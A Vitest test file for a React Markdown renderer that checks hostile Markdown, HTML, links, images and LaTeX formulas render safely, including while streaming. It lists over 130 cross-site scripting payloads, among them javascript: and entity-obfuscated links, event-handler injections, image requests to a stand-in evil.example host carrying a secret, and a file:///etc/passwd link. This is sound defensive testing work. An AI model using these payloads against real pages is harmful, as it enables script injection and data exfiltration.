// Hostile input from a model or document must only become text, safe links and our own elements.
import { MantineProvider } from '@mantine/core'
import { renderToStaticMarkup } from 'react-dom/server'
import { beforeAll, describe, expect, test } from 'vitest'
import { translations } from '#lib/translations.ts'
import texts from '#texts/en/markdown.json'
import { Markdown } from './markdown.tsx'
import { highlightPart, mathPart } from './parts.ts'

beforeAll(async () => {
  await Promise.all([mathPart.load(), highlightPart.load()])
  translations.start({ language: 'en', texts: { markdown: texts } })
})

const citations = { numbers: [1, 2, 3], open: () => undefined }
// Only code blocks need the provider, for their tooltips: it takes most of the render time.
const needsProvider = (text: string) => /`{3}|~{3}|^(?: {4}|\t)/m.test(text)

const page = (text: string, streaming = false) => {
  const shown = <Markdown text={text} streaming={streaming} citations={citations} />
  if (!needsProvider(text)) return renderToStaticMarkup(shown)
  const html = renderToStaticMarkup(<MantineProvider>{shown}</MantineProvider>)
  return html.replaceAll(/<style data-mantine-styles[^>]*>[\s\S]*?<\/style>/g, '')
}

interface Tag {
  name: string
  attributes: Map<string, string>
}

/**
 * Returns the tags in React's output: React escapes <, > and " in text and attributes, so a tag is anything between < and >.
 */
function tagsOf(html: string): Tag[] {
  return [...html.matchAll(/<([a-z][a-z0-9-]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = '', rest = '']) => ({
      name: name.toLowerCase(),
      attributes: new Map(
        [...rest.matchAll(/([^\s=>"]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [
          key.toLowerCase(),
          unescape(value),
        ]),
      ),
    }),
  )
}

const unescape = (text: string) =>
  text
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')

const ALLOWED = new Set(
  (
    'a annotation blockquote br button code del div em h3 h4 h5 h6 hr img li math mfrac mi mn mo mover mpadded mphantom mroot mrow ms mspace ' +
    'msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover menclose ol p path pre section semantics span strong sup svg table tbody td th thead tr ul'
  ).split(' '),
)
const LOADS = [
  'src',
  'srcset',
  'poster',
  'background',
  'data',
  'action',
  'formaction',
  'xlink:href',
  'ping',
  'cite',
  'manifest',
  'srcdoc',
]

function faultsOf(html: string): string[] {
  return tagsOf(html).flatMap(({ name, attributes }) => [
    ...(ALLOWED.has(name) ? [] : [`<${name}>`]),
    ...[...attributes.keys()].filter((key) => key.startsWith('on')).map((key) => `${name} ${key}`),
    ...faultyLinks(name, attributes),
    ...LOADS.filter((key) => key !== 'src' && attributes.has(key)).map((key) => `${name} ${key}`),
    ...(/url\(|expression|@import|position: *fixed/i.test(attributes.get('style') ?? '')
      ? [`${name} style`]
      : []),
  ])
}

function faultyLinks(name: string, attributes: Map<string, string>): string[] {
  const href = attributes.get('href')
  const src = attributes.get('src')
  const faults: string[] = []
  if (href !== undefined && name !== 'a') faults.push(`${name} href ${href}`)
  if (href !== undefined && !/^(?:https?:\/\/[^\s]+|mailto:[^\s]*|\/(?![/\\])[^\s]*|#fn\w+-\S+)$/.test(href))
    faults.push(`href ${href}`)
  if (href !== undefined && !href.startsWith('#') && attributes.get('rel') !== 'noopener noreferrer')
    faults.push(`rel of ${href}`)
  if (src !== undefined && !/^(?:\/(?![/\\])|data:image\/(?:png|jpeg|gif|webp);base64,)/.test(src))
    faults.push(`src ${src}`)
  if (src !== undefined && name !== 'img') faults.push(`${name} src`)
  return faults
}

const VECTORS = [
  // HTML
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  'a <b onmouseover=alert(1)>b</b>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><image href=//evil.example/x /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=//evil.example/x.swf>',
  '<form action=//evil.example><input name=a><button>x</button></form>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=//evil.example/x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<!DOCTYPE x [<!ENTITY y "z">]>',
  '<p>\n\n<script>\nalert(1)\n\n</script>\n\n</p>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<marquee onstart=alert(1)>',
  '<plaintext>',
  '<div\nonclick=alert(1)\n>x</div>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '# <svg onload=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  // links
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61vascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](  javascript:alert(1)  )',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://x/1)',
  '[x](https://a"onmouseover="alert(1))',
  '[x](https://example.com "t\\" onmouseover=\\"alert(1)")',
  '[x](https://example.com \'a" onload="alert(1)\')',
  '[x](#user-content-x)',
  '[x](?next=//evil)',
  '[x](javascript:alert(1) "t")',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '[x](https://example.com/%0d%0aSet-Cookie:x)',
  '[a](https://bank.example@evil.example)',
  // autolinks
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,x>',
  '<https://example.com/"onclick="alert(1)>',
  'https://example.com/"onclick="alert(1)',
  'www.example.com/<script>alert(1)</script>',
  '<mailto:a@b.c?body="><script>alert(1)</script>>',
  'a@b.c"onclick=alert(1)',
  'javascript:alert(1)',
  // references, titles, footnotes
  '[x][a]\n\n[a]: javascript:alert(1)',
  '[x]\n\n[x]: <javascript:alert(1)> "t"',
  '![x][a]\n\n[a]: https://evil.example/x.png',
  '[x][__proto__]\n\n[__proto__]: javascript:alert(1)',
  '[x][constructor]',
  '[a]: https://example.com "\\"><script>alert(1)</script>"\n\n[a]',
  'a[^1]\n\n[^1]: <script>alert(1)</script>',
  'a[^x"onclick="y]\n\n[^x"onclick="y]: [z](javascript:alert(1))',
  'a[^1]\n\n[^1]: ![p](https://evil.example/p.png)',
  // pictures
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?d=secret)',
  '![x](//evil.example/?d=secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '![x"onerror="alert(1)](x.png)',
  '![x](https://evil.example/p.png "t\\" onerror=\\"x")',
  '![](<https://evil.example/ a>)',
  // code
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onload="alert(1)\nx\n```',
  '```__proto__\nx\n```',
  '```constructor\nx\n```',
  '~~~<img/src=x/onerror=alert(1)>\nx\n~~~',
  '`<img src=x onerror=alert(1)>`',
  '```mermaid\nclick A "javascript:alert(1)"\n```',
  '    <script>alert(1)</script>',
  '```xml\n<a href="javascript:alert(1)">&lt;script&gt;</a>\n```',
  // tables and lists
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '|<script>|\n|-|\n|alert(1)</script>|',
  '|a|\n|-|\n|x<br onload=alert(1)>y|',
  '|a|\n|-|\n|x<br>y<br/>z|',
  '- [x] <input onfocus=alert(1) autofocus>',
  '|[x](javascript:alert(1))|\n|:-:|\n|![y](https://evil.example/y.png)|',
  // entities, bidi, citations
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u202Ehttps://evil.example\u202C',
  '[1]<script>[2]</script>',
  'x.[1][2](javascript:alert(1))',
  '[1](javascript:alert(1)) [1, 2]',
  '\0<script>alert(1)</script>',
  // formulas
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\url{javascript:alert(1)}$$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\htmlStyle{background:url(//evil.example)}{x}$',
  '$\\htmlClass{"onclick="alert(1)}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\unknown<script>alert(1)</script>$',
  '$$\n\\frac{<svg onload=alert(1)>}\n$$',
  '\\(\\style{x}\\)',
  '$\\color{red;background:url(//evil.example)}{x}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\rule{1000000em}{1000000em}$',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
]

describe('rendering hostile Markdown', () => {
  test(`tests ${VECTORS.length} texts`, () => expect(VECTORS.length).toBeGreaterThanOrEqual(60))

  test.each(VECTORS)('is safe for %j', (vector) => {
    expect(faultsOf(page(vector))).toEqual([])
    expect(faultsOf(page(`Text before.\n\n${vector}\n\nText after.`))).toEqual([])
  })

  test('is safe when the text is cut at every character while it streams', () => {
    for (const vector of VECTORS)
      for (let end = 1; end <= vector.length; end += 1) {
        const faults = faultsOf(page(vector.slice(0, end), true))
        if (faults.length > 0) expect({ vector: vector.slice(0, end), faults }).toEqual('no faults')
      }
  }, 60_000)

  test('the check finds every kind of fault', () => {
    for (const html of [
      '<script>x</script>',
      '<p onclick="x">',
      '<a href="javascript:x" rel="noopener noreferrer">',
      '<a href="//evil.example" rel="noopener noreferrer">',
      '<a href="https://x.example">',
      '<img src="https://evil.example/x">',
      '<p style="background:url(x)">',
      '<iframe srcdoc="x">',
      '<svg><image xlink:href="x"></svg>',
    ])
      expect(faultsOf(html), html).not.toEqual([])
  })
})

describe('rendering Markdown', () => {
  const shown = (text: string) => unescape(page(text).replaceAll(/<[^>]*>/g, ''))

  test('shows HTML as text', () => {
    expect(shown('a <b>bold</b> <script>alert(1)</script>')).toBe('a <b>bold</b> <script>alert(1)</script>')
  })

  test('shows an invalid formula as its source', () => {
    expect(page('$\\frac{$ x $\\unknown{y}$')).toContain('\\unknown{y}')
    expect(page('$\\unknown{y}$')).not.toContain('color:#cc0000')
  })

  test('shows the host of a link in its title, and beside a misleading text', () => {
    expect(page('[docs](https://example.com/x)')).toContain('title="example.com"')
    expect(shown('[https://bank.example](https://evil.example)')).toContain('(evil.example)')
  })

  test('shows an image of another host as a link to it', () => {
    const html = page('![chart](https://pictures.example/c.png)')
    expect(html).not.toContain('<img')
    expect(html).toContain('href="https://pictures.example/c.png"')
  })

  test('places headings below those of the page', () => {
    expect(page('### a\n\n#### b')).toMatch(/<h3[^>]*>a<\/h3>.*<h4[^>]*>b<\/h4>/s)
    expect(page('# a\n\n## b\n\n###### c')).toMatch(/<h3[^>]*>a<\/h3>.*<h4[^>]*>b<\/h4>.*<h6[^>]*>c<\/h6>/s)
  })

  test('makes buttons only of citations that have a source', () => {
    expect(page('So it is. [1] And [9].')).toMatch(
      /is\.<button[^>]*aria-label="Source 1"[^>]*>1<\/button> And \[9\]\./,
    )
    expect(page('`[1]` [1](https://example.com)')).not.toContain('aria-label="Source 1"')
  })

  test('aligns columns of numbers to the right, and no others', () => {
    const html = page('|a|b|c|\n|-|-|-|\n|x|1,284,500 €|12 weeks|\n|y|87 €|5 years|')
    expect(html.match(/<td[^>]*right[^>]*>/g)).toHaveLength(4)
  })

  test('keeps the line breaks of a letter, and none of the markup’s own', () => {
    const html = page('Jane Doe\nMain Street 1\n\n- a\n- b\n\n```\nx\ny\n```')
    expect(html).toContain('Jane Doe<br/>\nMain Street 1')
    expect(html.match(/<br/g)).toHaveLength(1)
  })

  test('shows the caret at the end of a streaming text', () => {
    expect(page('a\n\n- b\n- c', true)).toMatch(/c<span class="pl-caret"><\/span><\/li>/)
    expect(page('```js\nlet a', true)).toMatch(/<span class="pl-caret"><\/span><\/pre>/)
    expect(page('a')).not.toContain('pl-caret')
  })

  test('resolves footnotes and link definitions of a finished text', () => {
    const text = 'See [x][1] and this[^n].\n\nMore.\n\n[1]: https://example.com\n\n[^n]: The note.'
    expect(page(text)).toContain('href="https://example.com/"')
    expect(page(text)).toContain('The note.')
  })
})

test('renders very long and deeply nested texts within four seconds', () => {
  const texts = [
    '>'.repeat(50_000),
    '['.repeat(50_000),
    '*a'.repeat(25_000),
    '- '.repeat(20_000),
    '![a'.repeat(20_000),
    '`'.repeat(50_001),
    '|'.repeat(20_000),
    '<a '.repeat(20_000),
    '&#'.repeat(30_000),
    'x'.repeat(100_000),
    '$x'.repeat(20_000),
    '\\('.repeat(30_000),
    '1) '.repeat(10_000),
    '[^'.repeat(20_000),
    `|a|\n|-|\n${'|b|\n'.repeat(3_000)}`,
    '_a_'.repeat(10_000),
    '](x'.repeat(20_000),
    'a@b.'.repeat(10_000),
    'www.'.repeat(10_000),
  ]
  for (const text of texts) {
    const start = performance.now()
    expect(page(text).length).toBeGreaterThan(0)
    expect({ text: text.slice(0, 10), slow: performance.now() - start > 4_000 }).toEqual({
      text: text.slice(0, 10),
      slow: false,
    })
  }
}, 60_000)
